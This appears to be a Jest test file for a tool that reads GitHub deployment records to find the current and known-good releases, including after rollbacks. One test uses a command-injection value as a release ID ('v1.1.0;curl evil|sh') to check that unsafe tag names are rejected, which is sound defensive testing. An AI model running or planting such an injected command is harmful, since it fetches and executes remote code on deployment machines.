import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { silentLogger } from '../../src/core/gate.js';
import { createGitHubClient } from '../../src/github/octokit.js';
import { releaseTagFromEvent } from '../../src/github/access.js';
import { octokitLedgerReader, readLedger, readPayload } from '../../src/github/ledger-read.js';
import type {
  DeploymentPayload,
  DeploymentState,
  LedgerDeployment,
  LedgerReader,
} from '../../src/github/ledger-read.js';
import { startFakeGitHub } from '../helpers/fake-github/index.js';
import type { FakeGitHub } from '../helpers/fake-github/index.js';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

/** An in-memory ledger: deployments newest last as written, statuses oldest first. */
function memoryLedger(
  entries: { ref: string; payload?: Partial<DeploymentPayload>; statuses: DeploymentState[] }[],
): LedgerReader & { statusCalls: number } {
  const deployments: LedgerDeployment[] = entries.map((e, i) => ({
    id: i + 1,
    ref: e.ref,
    sha: String(i + 1)
      .repeat(40)
      .slice(0, 40),
    createdAt: `2026-07-${String(i + 1).padStart(2, '0')}T00:00:00Z`,
    payload: e.payload ?? {},
  }));
  const reader = {
    statusCalls: 0,
    async listDeployments(_env: string, limit: number) {
      return [...deployments].reverse().slice(0, limit);
    },
    async listStatuses(id: number) {
      reader.statusCalls += 1;
      return [...entries[id - 1]!.statuses].reverse();
    },
  };
  return reader;
}

const deploy = (releaseId: string, statuses: DeploymentState[]) => ({
  ref: releaseId,
  payload: { releaseId, kind: 'deploy' as const },
  statuses,
});

describe('readLedger', () => {
  it('is empty without deployments', async () => {
    expect(await readLedger(memoryLedger([]), 'production')).toEqual({ deployments: 0 });
  });

  it('takes the newest successful deployment as current and known-good', async () => {
    const ledger = await readLedger(
      memoryLedger([deploy('v1.0.0', ['success', 'inactive']), deploy('v1.1.0', ['in_progress', 'success'])]),
      'production',
    );
    expect(ledger.current?.releaseId).toBe('v1.1.0');
    expect(ledger.knownGood?.releaseId).toBe('v1.1.0');
  });

  it('never takes a release ID that is not a safe tag name from a payload', async () => {
    const ledger = await readLedger(
      memoryLedger([deploy('v1.0.0', ['success']), deploy('v1.1.0;curl evil|sh', ['success'])]),
      'production',
    );
    expect(ledger.current?.releaseId).toBe('v1.0.0');
    expect(ledger.knownGood?.releaseId).toBe('v1.0.0');
  });

  it('skips a deployment still running or failed', async () => {
    const ledger = await readLedger(
      memoryLedger([
        deploy('v1.0.0', ['success']),
        deploy('v1.1.0', ['in_progress', 'failure']),
        deploy('v1.2.0', ['queued', 'in_progress']),
      ]),
      'production',
    );
    expect(ledger.current?.releaseId).toBe('v1.0.0');
    expect(ledger.knownGood?.releaseId).toBe('v1.0.0');
  });

  it('after a rollback, production and known-good are the release rolled back to', async () => {
    const ledger = await readLedger(
      memoryLedger([
        deploy('v1.1.0', ['success', 'inactive']),
        deploy('v1.2.0', ['success', 'inactive']),
        {
          ref: 'v1.1.0',
          payload: { releaseId: 'v1.1.0', kind: 'rollback', rolledBackFrom: 'v1.2.0' },
          statuses: ['success'],
        },
      ]),
      'production',
    );
    expect(ledger.current).toEqual(expect.objectContaining({ releaseId: 'v1.1.0', kind: 'rollback' }));
    expect(ledger.knownGood?.releaseId).toBe('v1.1.0');
  });

  it('a release rolled back from is not known-good, even while production is still on it', async () => {
    const ledger = await readLedger(
      memoryLedger([
        deploy('v1.2.0', ['success', 'inactive']),
        deploy('v1.3.0', ['success']),
        {
          ref: 'v1.2.0',
          payload: { releaseId: 'v1.2.0', kind: 'rollback', rolledBackFrom: 'v1.3.0' },
          statuses: ['in_progress', 'failure'],
        },
      ]),
      'production',
    );
    expect(ledger.current?.releaseId).toBe('v1.3.0');
    expect(ledger.knownGood?.releaseId).toBe('v1.2.0');
  });

  it('a release deployed again after its rollback counts again', async () => {
    const ledger = await readLedger(
      memoryLedger([
        deploy('v1.2.0', ['success', 'inactive']),
        deploy('v1.3.0', ['success', 'inactive']),
        {
          ref: 'v1.2.0',
          payload: { releaseId: 'v1.2.0', kind: 'rollback', rolledBackFrom: 'v1.3.0' },
          statuses: ['success', 'inactive'],
        },
        deploy('v1.3.0', ['success']),
      ]),
      'production',
    );
    expect(ledger.knownGood?.releaseId).toBe('v1.3.0');
  });

  it('ignores drills and uses the ref when the payload is not ours', async () => {
    const reader = memoryLedger([
      { ref: 'v1.0.0', statuses: ['success'] },
      { ref: 'v0.9.0', payload: { releaseId: 'v0.9.0', kind: 'drill' }, statuses: ['success'] },
    ]);
    const ledger = await readLedger(reader, 'production');
    expect(ledger.knownGood).toEqual(expect.objectContaining({ releaseId: 'v1.0.0', kind: 'deploy' }));
    expect(reader.statusCalls).toBe(1);
  });

  it('can leave out the release whose own note is checked', async () => {
    const ledger = await readLedger(
      memoryLedger([deploy('v1.0.0', ['success', 'inactive']), deploy('v1.1.0', ['success'])]),
      'production',
      {
        exclude: 'v1.1.0',
      },
    );
    expect(ledger.knownGood?.releaseId).toBe('v1.0.0');
  });

  it('stops reading statuses once it knows both answers', async () => {
    const reader = memoryLedger(Array.from({ length: 20 }, (_, i) => deploy(`v1.${i}.0`, ['success'])));
    await readLedger(reader, 'production');
    expect(reader.statusCalls).toBe(1);
  });
});

describe('readPayload', () => {
  it('keeps well-typed fields of an object or JSON text and drops the rest', () => {
    expect(
      readPayload({
        releaseId: 'v1',
        kind: 'rollback',
        rolledBackFrom: 'v2',
        migrations: ['a.sql', 3],
        actor: 'ana',
        extra: 1,
      }),
    ).toEqual({
      releaseId: 'v1',
      kind: 'rollback',
      rolledBackFrom: 'v2',
      migrations: ['a.sql'],
      actor: 'ana',
    });
    expect(readPayload('{"releaseId":"v3","kind":"deploy"}')).toEqual({ releaseId: 'v3', kind: 'deploy' });
    expect(readPayload('not json')).toEqual({});
    expect(readPayload({ kind: 'party', releaseId: 7 })).toEqual({});
    expect(readPayload(null)).toEqual({});
  });
});

describe('the ledger through the GitHub API (fake, checked against the OpenAPI description)', () => {
  let fake: FakeGitHub;
  beforeAll(async () => {
    fake = await startFakeGitHub({ token: 't' });
  });
  afterAll(async () => {
    await fake.close();
  });
  beforeEach(() => fake.clearLogs());

  it('reads deployments of one environment and their statuses', async () => {
    const repo = fake.state.repo();
    const record = (releaseId: string, payload: Record<string, unknown>, environment = 'production') => {
      const d = repo.addDeployment({ ref: releaseId, environment, payload });
      repo.addDeploymentStatus(d.id, { state: 'success' });
      return d;
    };
    record('v1.1.0', { releaseId: 'v1.1.0', kind: 'deploy', actor: 'ana', migrations: [] });
    record('v1.2.0', { releaseId: 'v1.2.0', kind: 'deploy', actor: 'ana', migrations: [] });
    record('v9.9.9', { releaseId: 'v9.9.9', kind: 'deploy' }, 'staging');
    record('v1.1.0', {
      releaseId: 'v1.1.0',
      kind: 'rollback',
      rolledBackFrom: 'v1.2.0',
      actor: 'bo',
      migrations: [],
    });

    const client = createGitHubClient({ token: 't', baseUrl: fake.url, log: silentLogger });
    const ledger = await readLedger(octokitLedgerReader(client, 'octo-org', 'demo-app'), 'production');
    expect(ledger.current).toEqual(expect.objectContaining({ releaseId: 'v1.1.0', kind: 'rollback' }));
    expect(ledger.knownGood?.releaseId).toBe('v1.1.0');
    expect(ledger.deployments).toBe(3);
    expect(fake.requestsFor('repos/list-deployments')[0]?.query).toEqual(
      expect.objectContaining({ environment: 'production' }),
    );
    expect(fake.violations).toEqual([]);
  });
});

describe('releaseTagFromEvent', () => {
  it('reads release.tag_name and nothing else', () => {
    const dir = mkdtempSync(join(tmpdir(), 'rr-event-'));
    try {
      const write = (name: string, payload: unknown) => {
        const path = join(dir, name);
        writeFileSync(path, typeof payload === 'string' ? payload : JSON.stringify(payload));
        return path;
      };
      expect(
        releaseTagFromEvent(write('release.json', { action: 'published', release: { tag_name: 'v1.4.2' } })),
      ).toBe('v1.4.2');
      expect(releaseTagFromEvent(write('pr.json', { pull_request: { number: 1 } }))).toBeUndefined();
      expect(releaseTagFromEvent(write('bad.json', '{nope'))).toBeUndefined();
      expect(releaseTagFromEvent(undefined)).toBeUndefined();
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
